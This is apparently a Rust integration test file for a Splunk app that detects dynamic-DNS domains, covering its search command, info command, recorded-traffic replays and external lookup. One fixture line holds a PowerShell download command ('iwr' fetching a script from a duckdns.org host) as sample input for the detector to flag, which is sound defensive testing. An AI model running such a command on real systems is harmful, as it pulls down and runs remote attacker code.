//! The installed command, health command and external lookup, run as
//! commands.conf and transforms.conf declare them.

use std::io::{Read, Write};

use serde_json::json;

use super::home::SplunkHome;
use super::session::{
    check_dns_verdicts, parse_csv, scp_session, stderr_of, tune_lookups, wait, DNS_ROWS,
};
use super::{package, TIMEOUT};
use crate::util::driver::Driver;
use crate::util::root;
use crate::util::scp;

#[test]
fn the_command_runs_as_commands_conf_declares_it() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "scp");
    tune_lookups(&home);
    let argv = home.command_argv();
    assert!(argv[0] == "python3" && argv[1].ends_with("/bin/dynamicdns.py"), "{argv:?}");
    assert_eq!(argv[2..], ["scp"]);
    let header_only: &[u8] = b"_time,src,query,answer,__mv_answer\r\n";
    let replies =
        scp_session(&home, &argv, &["field=query,answer"], &[DNS_ROWS, header_only, b""]);
    check_dns_verdicts(&replies[0]);
    assert!(replies[1].is_empty() && replies[2].is_empty());
    // mode=text over free text, tier=core.
    let text: &[u8] =
        b"_time,CommandLine\n1,\"powershell iwr http://x.duckdns.org/a.ps1\"\n2,notepad.exe\n";
    let replies =
        scp_session(&home, &argv, &["field=CommandLine", "mode=text", "tier=core"], &[text]);
    let flags: Vec<&str> = replies[0].iter().map(|r| r["isDynDNS"].as_str()).collect();
    assert_eq!(flags, ["True", "False"]);
}

/// `| dynamicdnsinfo` as commands.conf declares it, through the launcher,
/// as splunkd would run it on the search head and (with
/// `distributed=true`) on an indexer: a generating command's getinfo, an
/// execute request without records answered with the one row, EOF, exit 0
/// with nothing on stderr. The row names the installed app and the zone
/// counts of the installed lookup.
#[test]
fn the_info_command_runs_as_commands_conf_declares_it() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "info");
    tune_lookups(&home);
    let argv = home.command_argv_of("dynamicdnsinfo");
    assert!(argv[0] == "python3" && argv[1].ends_with("/bin/dynamicdns.py"), "{argv:?}");
    assert_eq!(argv[2..], ["info"]);
    let installed = |file: &str| {
        let mut r = csv::Reader::from_path(home.app().join("lookups").join(file)).unwrap();
        let h = r.headers().unwrap().clone();
        let rows: Vec<csv::StringRecord> = r.records().map(Result::unwrap).collect();
        (h, rows)
    };
    let (h, zones) = installed("dynamic_dns_providers.csv");
    let count = |col: &str, value: &str| {
        let c = h.iter().position(|x| x == col).unwrap();
        zones.iter().filter(|r| &r[c] == value).count().to_string()
    };
    let (_, hosts) = installed("dynamic_dns_service_hosts.csv");
    let app_dir = std::fs::canonicalize(home.app()).unwrap().display().to_string();
    for distributed in [true, false] {
        let mut cmd = home.command(&argv);
        cmd.env("SPLUNK_SERVER_NAME", "Splunkd");
        let mut d = Driver::spawn_command(cmd, TIMEOUT);
        let mut meta =
            scp::getinfo_metadata(if distributed { &["distributed=true"] } else { &[] });
        meta["searchinfo"]["command"] = json!("dynamicdnsinfo");
        meta["searchinfo"]["dispatch_dir"] = json!(home.dispatch_dir().display().to_string());
        let reply = d.request(&scp::chunk_json(&meta, b""));
        let kind = if distributed { "streaming" } else { "stateful" };
        assert_eq!(
            String::from_utf8_lossy(&reply.metadata_raw),
            format!(r#"{{"generating":true,"type":"{kind}"}}"#)
        );
        let reply = d.request(&scp::execute(true, b""));
        assert_eq!(reply.metadata_raw, br#"{"finished":true}"#);
        let rows = parse_csv(&reply.body);
        assert_eq!(rows.len(), 1);
        let row = &rows[0];
        let want = [
            ("server", "Splunkd".to_string()),
            ("version", env!("CARGO_PKG_VERSION").to_string()),
            ("arch", "x86_64".to_string()),
            ("app_dir", app_dir.clone()),
            ("zones", zones.len().to_string()),
            ("zones_core", count("tier", "core")),
            ("zones_extended", count("tier", "extended")),
            ("zones_ddns", count("category", "ddns")),
            ("zones_vendor_ddns", count("category", "vendor-ddns")),
            ("zones_vpn_vendor", count("category", "vpn-vendor")),
            ("service_hosts", hosts.len().to_string()),
            ("local_zones", "1".to_string()),
            ("allowlist", "1".to_string()),
            (
                "local_files",
                "dynamicdns_local_zones.csv: 1 row\ndynamicdns_allowlist.csv: 1 row".to_string(),
            ),
            ("problems", String::new()),
            ("problem_count", "0".to_string()),
            ("status", "ok".to_string()),
        ];
        for (k, v) in want {
            assert_eq!(row[k], v, "{k} (distributed={distributed})");
        }
        // The package's build says which commit it was built from
        // (cargo xtask package; `dev` only outside a git checkout).
        let build = &row["build"];
        let hex = build.strip_suffix("-dirty").unwrap_or(build);
        assert!(
            (hex.len() == 12 && hex.bytes().all(|b| b.is_ascii_hexdigit()))
                || (build == "dev" && !root().join(".git").exists()),
            "build {build:?}"
        );
        let fin = d.finish();
        assert!(fin.status.success(), "exit {}; stderr: {}", fin.status, fin.stderr);
        assert_eq!(fin.stderr, "", "stderr stays quiet");
    }
}

/// Real splunkd bytes through the installed launcher: the countmatches
/// recording (text with 48 embedded newlines, unicode) and sum.map (50,000
/// records), each reply checked field by field as in tests/recordings.rs.
#[test]
fn the_installed_command_replays_real_splunkd_recordings() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "recordings");
    let argv = home.command_argv();
    let spawn = || home.driver(&argv);
    let chunks = scp::split_chunks(&scp::recording("countmatches.input.gz"));
    let ex = scp::replay_through(
        spawn(),
        "countmatches (installed)",
        &chunks,
        &["field=text", "mode=text"],
        &["text"],
        None,
    );
    assert_eq!(ex.len(), 1);
    let chunks = scp::split_chunks(&scp::recording("sum.map.input.gz"));
    let ex = scp::replay_through(
        spawn(),
        "sum.map (installed)",
        &chunks,
        &["field=host"],
        &["host"],
        Some(crate::util::oracle::Oracle::shared()),
    );
    assert_eq!(ex[0].output.spans.len(), 50_001);
}

#[test]
fn the_external_lookup_runs_as_transforms_conf_declares_it() {
    let Some(tgz) = package() else { return };
    let home = SplunkHome::install(&tgz, "lookup");
    tune_lookups(&home);
    let (argv, fields) = home.lookup_argv("dynamicdns");
    let outputs = ["isDynDNS", "provider", "dyndns_zone", "dyndns_category", "dyndns_tier"];
    assert_eq!(fields[0], "query");
    assert_eq!(fields[1..], outputs);
    let mut input = fields.join(",") + "\n";
    for q in [
        "update7.duckdns.org",
        "www.example.com",
        "ok.duckdns.org",
        "a.corp-dyn.example",
        "\"q,uoted\"",
    ] {
        input.push_str(&format!("{q},,,,,\n"));
    }
    // A reverse request (only an output set): answered with query=*.
    input.push_str(",True,,,,\n");
    let mut child = home.spawn(&argv);
    let mut stdin = child.stdin.take().unwrap();
    let writer = std::thread::spawn(move || stdin.write_all(input.as_bytes()));
    let mut out = String::new();
    child.stdout.take().unwrap().read_to_string(&mut out).unwrap();
    writer.join().unwrap().unwrap();
    let status = wait(&mut child);
    let stderr = stderr_of(&mut child);
    assert!(status.success(), "exit {status}; stderr: {stderr}");
    assert_eq!(
        out,
        "query,isDynDNS,provider,dyndns_zone,dyndns_category,dyndns_tier\n\
         update7.duckdns.org,True,DuckDNS,duckdns.org,ddns,core\n\
         www.example.com,False,,,,\n\
         ok.duckdns.org,False,,,,\n\
         a.corp-dyn.example,True,Corp DDNS,corp-dyn.example,ddns,core\n\
         \"q,uoted\",False,,,,\n\
         *,True,,,,\n"
    );
}
